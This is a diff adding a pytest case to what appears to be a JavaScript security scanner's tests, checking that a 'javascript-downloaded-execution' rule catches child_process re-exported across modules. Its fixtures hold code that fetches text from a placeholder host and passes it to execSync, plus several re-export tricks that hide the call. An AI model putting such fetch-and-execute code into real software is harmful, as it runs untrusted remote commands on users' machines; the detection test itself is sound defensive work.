@@ -96,3 +96,24 @@ def test_a_function_of_another_file_is_called_later_and_no_text_of_it_runs() -> 
 def test_what_a_function_of_another_file_fetches_is_no_function(text: str) -> None:
     files = {"b.mjs": f"{SCAN}export {{ scan }};\n", "a.mjs": f"import {{ scan }} from './b.mjs';\n{text}"}
     assert "javascript-downloaded-execution" in {finding.rule for finding in audit_code(files).findings}
+
+
+@pytest.mark.parametrize(
+    ("given", "used"),
+    [
+        ('module.exports = require("child_process");', 'const b = require("./b");\n%s b.execSync(t);'),
+        (
+            'const c = require("child_process");\nmodule.exports = { run: c.execSync };',
+            'const { run } = require("./b");\n%s run(t);',
+        ),
+        ('export { execSync as run } from "node:child_process";', 'import { run } from "./b";\n%s run(t);'),
+        ('export * from "node:child_process";', 'import { execSync } from "./b";\n%s execSync(t);'),
+        ('export * as cp from "node:child_process";', 'import { cp } from "./b";\n%s cp.execSync(t);'),
+    ],
+)
+def test_what_another_file_hands_on_of_the_platform_is_known(given: str, used: str) -> None:
+    fetched = 'const t = await (await fetch("https://c.example.invalid/a")).text();'
+    found = audit_code({"b.js": given + "\n", "a.js": used % fetched + "\n"})
+    assert "javascript-downloaded-execution" in {each.rule for each in found.findings}
+    found = audit_code({"b.js": given + "\n", "a.js": (used % 'const t = "date";') + "\n"})
+    assert "javascript-downloaded-execution" not in {each.rule for each in found.findings}
